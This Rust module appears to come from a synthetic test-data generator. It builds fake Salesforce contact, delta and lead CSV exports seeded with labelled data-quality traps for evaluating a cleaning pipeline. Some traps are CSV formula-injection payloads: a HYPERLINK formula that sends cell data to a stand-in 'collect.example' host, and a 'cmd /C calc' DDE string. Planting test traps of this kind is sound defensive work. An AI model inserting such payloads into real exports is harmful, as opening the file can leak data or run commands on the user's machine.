//! Contacts, the later delta of contacts, and leads, as Data Loader writes them.

use super::calendar::{Moment, day, iso, office_hour, salesforce_time};
use super::cast;
use super::dice::Dice;
use super::people::Person;
use super::salesforce::{EXPORTED, SOURCES, data_loader};
use super::smudge::spell_phone;
use super::staff::{STAFF, owner, user_id};
use super::table::Table;
use super::truth::{Export, Kind};
use super::world::{Spelling, World};

#[rustfmt::skip]
const CONTACT: &[&str] = &["ID", "ISDELETED", "MASTERRECORDID", "ACCOUNTID", "LASTNAME", "FIRSTNAME", "SALUTATION", "SUFFIX", "NAME", "MAILINGSTREET",
    "MAILINGCITY", "MAILINGPOSTALCODE", "MAILINGCOUNTRY", "PHONE", "FAX", "MOBILEPHONE", "EMAIL", "TITLE", "LEADSOURCE", "BIRTHDATE", "DESCRIPTION",
    "OWNERID", "HASOPTEDOUTOFEMAIL", "DONOTCALL", "CREATEDDATE", "CREATEDBYID", "LASTMODIFIEDDATE", "LASTMODIFIEDBYID", "SYSTEMMODSTAMP",
    "LASTACTIVITYDATE", "JIGSAW", "PREFERRED_LANG__C", "REGION_OLD__C", "LEGACY_ID__C", "PRODUCT_USER_ID__C"];
#[rustfmt::skip]
const LEAD: &[&str] = &["ID", "ISDELETED", "MASTERRECORDID", "LASTNAME", "FIRSTNAME", "NAME", "TITLE", "COMPANY", "CITY", "POSTALCODE", "COUNTRY", "PHONE",
    "EMAIL", "LEADSOURCE", "STATUS", "RATING", "ISCONVERTED", "CONVERTEDDATE", "CONVERTEDACCOUNTID", "CONVERTEDCONTACTID", "OWNERID",
    "HASOPTEDOUTOFEMAIL", "DESCRIPTION", "CREATEDDATE", "CREATEDBYID", "LASTMODIFIEDDATE", "LASTMODIFIEDBYID", "SYSTEMMODSTAMP"];

const HARMLESS: [&str; 4] =
    ["Prefers calls before noon.", "Met at the trade show.", "Decides together with finance.", ""];
const BROKEN: &str = "Said on the phone: \"call back in May\".\nSecond line; \"quoted\", with a comma.";
const FORMULA: &str = "=HYPERLINK(\"http://collect.example/?\"&A1,\"Open invoice\")";

pub fn exports(world: &mut World) -> Vec<Export> {
    let mut dice = Dice::new(world.seed, "salesforce contacts");
    let mut table = Table::data_loader(CONTACT);
    let mut written: Vec<(usize, Vec<String>)> = Vec::new();
    let mut held_back: Vec<usize> = Vec::new();
    for at in 0..world.people.len() {
        let Some(id) = world.keys.contact[at].clone() else { continue };
        // Those who came in the last days are only in the delta.
        if at > 200 && at % 47 == 11 {
            held_back.push(at);
            continue;
        }
        if at == 0 {
            merged(world, &mut dice, &mut table, at, &id, Some("0038d00000Wm7TaAAJ"));
        } else if dice.chance(30) {
            let lost = merged(world, &mut dice, &mut table, at, &id, None);
            if dice.chance(220) {
                merged(world, &mut dice, &mut table, at, &lost, None);
                world.truth.trap(
                    "merge chain in Salesforce",
                    &format!("Salesforce/Contact/{lost}"),
                    "A → B → C: the middle record is deleted too",
                );
            }
        }
        let cells = contact(world, &mut dice, at, &id, None);
        table.row(&cells);
        written.push((at, cells));
        if at >= cast::PEOPLE && dice.chance(42) {
            let double = world.keys.salesforce(&mut dice, "003");
            world.truth.trap(
                "duplicate inside one system",
                &format!("Salesforce/Contact/{double}"),
                "contact entered twice",
            );
            let cells = contact(world, &mut dice, at, &double, None);
            table.row(&cells);
        }
    }
    tests(world, &mut dice, &mut table);
    surplus(world, &mut dice, &mut table);
    let delta = delta(world, &mut dice, &written, &held_back);
    vec![data_loader("Contact.csv", table, 1), delta, leads(world)]
}

fn merged(
    world: &mut World,
    dice: &mut Dice,
    table: &mut Table,
    at: usize,
    winner: &str,
    fixed: Option<&str>,
) -> String {
    let id = fixed.map_or_else(|| world.keys.salesforce(dice, "003"), str::to_owned);
    let when = EXPORTED * 86_400 - dice.between(1, 14) * 86_400 + 33_000;
    let cells = contact(world, dice, at, &id, Some((winner, when)));
    table.row(&cells);
    world.truth.merged(
        "Salesforce",
        "Contact",
        &id,
        winner,
        &salesforce_time(when),
        "MASTERRECORDID of the losing row",
    );
    world.keys.lost_contacts.insert(at, id.clone());
    id
}

/// One contact's cells; `merged` names the winner and the moment, for a loser.
fn contact(world: &mut World, dice: &mut Dice, at: usize, id: &str, merged: Option<(&str, Moment)>) -> Vec<String> {
    let key = format!("Salesforce/Contact/{id}");
    let main = merged.is_none() && world.keys.contact[at].as_deref() == Some(id);
    let mut spelling = world.spell(dice, at, &key);
    let person = world.people[at].clone();
    if let Some(former) = person.former_family.clone().filter(|_| at >= cast::PEOPLE && dice.chance(700)) {
        spelling.family = former;
        world.truth.trap("name before marriage", &key, "");
    }
    if main && at % 900 == 777 {
        spelling.given.push('\u{202e}');
        world.truth.trap("hostile text", &key, "bidi override in the given name");
    }
    let company = &world.companies[person.company];
    let mut account = world.keys.account[person.company].clone().unwrap_or_default();
    if main && at % 700 == 333 {
        account = format!("0018d00000{}AAA", dice.digits(5));
        world.truth.trap("orphan reference", &key, "ACCOUNTID names an account that is in no file");
    } else if dice.chance(14) {
        account.clear();
    } else if let Some(lost) = world.keys.lost_accounts.get(&person.company).filter(|_| dice.chance(250)) {
        account.clone_from(lost);
        world.truth.trap("reference to a merged record", &key, "ACCOUNTID names an account that was merged away");
    }
    let description = match at % 211 {
        40 if main => BROKEN,
        97 if main && at.is_multiple_of(2) => FORMULA,
        _ => *dice.pick(&HARMLESS),
    };
    match description {
        BROKEN => world.truth.trap("line break and quotes in a cell", &key, "DESCRIPTION"),
        FORMULA => world.truth.trap("formula injection", &key, "DESCRIPTION"),
        _ => {}
    }
    let created = office_hour(person.joined, dice.roll());
    let modified = merged
        .map_or_else(|| (created + dice.between(5, 800) * 86_400).min(EXPORTED * 86_400 - 50_000), |(_, when)| when);
    let place = &company.country().places[company.place];
    let foreign = if dice.chance(350) && !place.1.is_empty() { place.1 } else { place.0 };
    let country = match dice.below(10) {
        0 => "",
        1 | 2 => *dice.pick(company.country().also),
        _ => company.country().name,
    };
    let language = match at {
        444 => "English\u{202e}",
        _ if dice.chance(580) => company.country().language,
        _ => "",
    };
    let owner = user_id(world.seed, owner(person.company));
    let street = person.home.clone().unwrap_or_else(|| company.street.clone());
    let legacy = company
        .legacy
        .as_ref()
        .filter(|_| main && at.is_multiple_of(2))
        .map(|old| format!("{old}-{:02}", at % 90 + 10));
    let opted_out = consent(world, at, &key, main);
    vec![
        id.to_owned(),
        merged.is_some().to_string(),
        merged.map(|(winner, _)| winner.to_owned()).unwrap_or_default(),
        account,
        spelling.family.clone(),
        spelling.given.clone(),
        if dice.chance(300) { if person.woman { "Ms." } else { "Mr." } } else { "" }.to_owned(),
        spelling.suffix.to_owned(),
        full_name(&spelling),
        street,
        foreign.to_owned(),
        place.3.to_owned(),
        country.to_owned(),
        if dice.chance(640) || at < cast::PEOPLE {
            spell_phone(&person.phone, if at < cast::PEOPLE { 0 } else { dice.below(9) })
        } else {
            String::new()
        },
        if dice.chance(20) { spell_phone(&person.phone, 0) } else { String::new() },
        if dice.chance(180) { spell_phone(&person.phone, 1) } else { String::new() },
        if dice.chance(930) || at < cast::PEOPLE { spelling.email } else { String::new() },
        if dice.chance(850) || at < cast::PEOPLE { person.title.to_owned() } else { String::new() },
        (*dice.pick(&SOURCES)).to_owned(),
        person.birth.filter(|_| at < cast::PEOPLE || dice.chance(450)).map(iso).unwrap_or_default(),
        description.to_owned(),
        owner.clone(),
        opted_out.to_string(),
        dice.chance(40).to_string(),
        salesforce_time(created),
        owner.clone(),
        salesforce_time(modified),
        owner,
        salesforce_time(modified + 1),
        if dice.chance(710) { iso(modified.div_euclid(86_400)) } else { String::new() },
        String::new(),
        language.to_owned(),
        if at.is_multiple_of(3) { ["EMEA-1", "EMEA-2", "NORDICS", "DACH"][at / 3 % 4] } else { "" }.to_owned(),
        legacy.unwrap_or_default(),
        // A few contacts were linked to their login by an integration that was switched off in 2024.
        if main && at % 6 == 1 { world.keys.login[at].clone().unwrap_or_default() } else { String::new() },
    ]
}

/// Who withdrew consent told Salesforce, HubSpot or both.
fn consent(world: &mut World, at: usize, key: &str, main: bool) -> bool {
    let opted_out = world.people[at].opted_out;
    if opted_out && main && !at.is_multiple_of(3) && world.keys.hub_contact[at].is_some() {
        world.truth.trap(
            "consent conflict",
            key,
            "Salesforce and HubSpot disagree on e-mail; the stricter one is right",
        );
    }
    opted_out && at % 3 != 1
}

pub fn full_name(spelling: &Spelling) -> String {
    let mut name = format!("{} {}", spelling.given, spelling.family);
    if !spelling.suffix.is_empty() {
        name = format!("{name} {}", spelling.suffix);
    }
    name
}

fn bare(world: &World, id: &str, given: &str, family: &str, email: &str) -> Vec<String> {
    let mut cells = vec![String::new(); CONTACT.len()];
    cells[0] = id.to_owned();
    for column in [1, 22, 23] {
        cells[column] = "false".to_owned();
    }
    cells[4] = family.to_owned();
    cells[5] = given.to_owned();
    cells[8] = format!("{given} {family}");
    cells[16] = email.to_owned();
    cells[21] = user_id(world.seed, 20);
    for column in [24, 26, 28] {
        cells[column] = salesforce_time(office_hour(day(2023, 5, 2), 4_000 + given.len() as u64));
    }
    cells
}

fn tests(world: &mut World, dice: &mut Dice, table: &mut Table) {
    const FAKE: [(&str, &str, &str); 12] = [
        ("Mickey", "Mouse", "mickey@test.example"),
        ("Donald", "Duck", "donald@test.example"),
        ("Test", "Test", "test@test.example"),
        ("Test", "Contact", "test+1@larkfield.example"),
        ("QA", "Larkfield", "qa@larkfield.example"),
        ("asdf", "asdf", "asdf@asdf.example"),
        ("Do Not", "Use", ""),
        ("John", "Doe", "test@test.example"),
        ("Max", "Mustermann", "max@example.com"),
        ("Test", "Katarzyna", "qa+7@larkfield.example"),
        ("xxx", "xxx", "noreply@example.com"),
        ("Delta Dental", "Test", "test@deltadental.example"),
    ];
    for (nth, (given, family, email)) in FAKE.into_iter().enumerate() {
        let id = if nth == 11 { "0038d00000Wn7TaAAJ".to_owned() } else { world.keys.salesforce(dice, "003") };
        let key = format!("Salesforce/Contact/{id}");
        world.truth.is(&key, Kind::Person, &format!("test-contact-{nth:02}"));
        world.truth.test(&key, "test: invented name or address");
        table.row(&bare(world, &id, given, family, email));
    }
    for (at, colleague) in STAFF.iter().enumerate().filter(|(at, _)| at.is_multiple_of(3) && *at < 18) {
        let id = world.keys.salesforce(dice, "003");
        let key = format!("Salesforce/Contact/{id}");
        world.truth.is(&key, Kind::Person, &format!("staff-{at:02}"));
        world.truth.test(&key, "internal: works at Larkfield");
        table.row(&bare(world, &id, colleague.given, colleague.family, &colleague.email()));
    }
}

/// A row with two cells more than the header: it cannot be a record.
fn surplus(world: &mut World, dice: &mut Dice, table: &mut Table) {
    let id = world.keys.salesforce(dice, "003");
    let mut cells = bare(world, &id, "Verena", "Kälin", "v.kaelin@cliniquedulac.example");
    cells.extend(["moved here by hand".to_owned(), "2025-10-30".to_owned()]);
    table.row(&cells);
    let key = format!("Salesforce/Contact.csv line of {id}");
    world.truth.trap("quarantined row", &key, "two cells more than the header");
}

fn delta(world: &mut World, dice: &mut Dice, written: &[(usize, Vec<String>)], held_back: &[usize]) -> Export {
    let mut table = Table::data_loader(CONTACT);
    let moment = |dice: &mut Dice| salesforce_time(office_hour(dice.between(EXPORTED + 1, EXPORTED + 3), dice.roll()));
    for (at, cells) in written.iter().filter(|(at, _)| at % 13 == 5) {
        let mut cells = cells.clone();
        let person: &Person = &world.people[*at];
        match at % 5 {
            // Unchanged: the integration only touched it, and these bytes are the same.
            0 => {}
            1 => cells[17] = "Medical Director".to_owned(),
            2 => cells[13] = spell_phone(&person.phone, 1),
            3 => cells[22] = "true".to_owned(),
            _ => cells[16] = person.private_email.clone().unwrap_or_else(|| person.email.clone()),
        }
        if !at.is_multiple_of(5) {
            let when = moment(dice);
            (cells[26], cells[28]) = (when.clone(), when);
        }
        table.row(&cells);
        world.truth.trap(
            "changed in the delta",
            &format!("Salesforce/Contact/{}", cells[0]),
            if at.is_multiple_of(5) { "same bytes again" } else { "newer version" },
        );
    }
    for at in held_back {
        let Some(id) = world.keys.contact[*at].clone() else { continue };
        let mut cells = contact(world, dice, *at, &id, None);
        let when = moment(dice);
        for column in [24, 26, 28] {
            cells[column].clone_from(&when);
        }
        table.row(&cells);
    }
    let mut export = data_loader("Contact-delta-2025-11-14.csv", table, 0);
    (export.as_of, export.extent) = (day(2025, 11, 14), "delta");
    export
}

fn leads(world: &mut World) -> Export {
    let mut dice = Dice::new(world.seed, "salesforce leads");
    let mut table = Table::data_loader(LEAD);
    for at in 0..world.people.len() {
        let Some(id) = world.keys.lead[at].clone() else { continue };
        let key = format!("Salesforce/Lead/{id}");
        let spelling = world.spell(&mut dice, at, &key);
        let person = world.people[at].clone();
        let company = world.spell_company(&mut dice, person.company, &key);
        let formula = at % 530 == 77;
        if formula {
            world.truth.trap("formula injection", &key, "TITLE");
        }
        let native = person.native.clone().filter(|_| at.is_multiple_of(2));
        if native.is_some() {
            world.truth.trap("name in its own script", &key, "");
        }
        let (given, family) = native.unwrap_or((spelling.given.clone(), spelling.family.clone()));
        let contact = world.keys.contact[at].clone().filter(|_| at.is_multiple_of(2));
        if contact.is_some() {
            world.truth.trap("lead converted into a contact", &key, "CONVERTEDCONTACTID");
        }
        let created = office_hour(person.joined.max(world.companies[person.company].known), dice.roll());
        let modified = salesforce_time((created + dice.between(1, 200) * 86_400).min(EXPORTED * 86_400 - 60_000));
        let land = world.company_of(at).country();
        let account = contact.as_ref().and_then(|_| world.keys.account[person.company].clone());
        let owner = user_id(world.seed, owner(person.company));
        table.row(&[
            id,
            "false".to_owned(),
            String::new(),
            family.clone(),
            given.clone(),
            format!("{given} {family}"),
            if formula { "@SUM(1+9)*cmd|' /C calc'!A0".to_owned() } else { person.title.to_owned() },
            company,
            world.company_of(at).city().to_owned(),
            world.company_of(at).postcode().to_owned(),
            if dice.chance(250) { *dice.pick(land.also) } else { land.name }.to_owned(),
            if dice.chance(550) { spell_phone(&person.phone, dice.below(9)) } else { String::new() },
            if dice.chance(960) { spelling.email } else { String::new() },
            (*dice.pick(&SOURCES)).to_owned(),
            if contact.is_some() {
                "Converted"
            } else {
                dice.pick(&["Open - Not Contacted", "Working - Contacted", "Unqualified", "open"])
            }
            .to_owned(),
            (*dice.pick(&["Hot", "Warm", "Cold", ""])).to_owned(),
            contact.is_some().to_string(),
            if contact.is_some() { iso(created.div_euclid(86_400) + 12) } else { String::new() },
            account.unwrap_or_default(),
            contact.unwrap_or_default(),
            owner.clone(),
            (person.opted_out && at % 3 != 1).to_string(),
            String::new(),
            salesforce_time(created),
            owner.clone(),
            modified.clone(),
            owner,
            modified,
        ]);
    }
    data_loader("Lead.csv", table, 0)
}
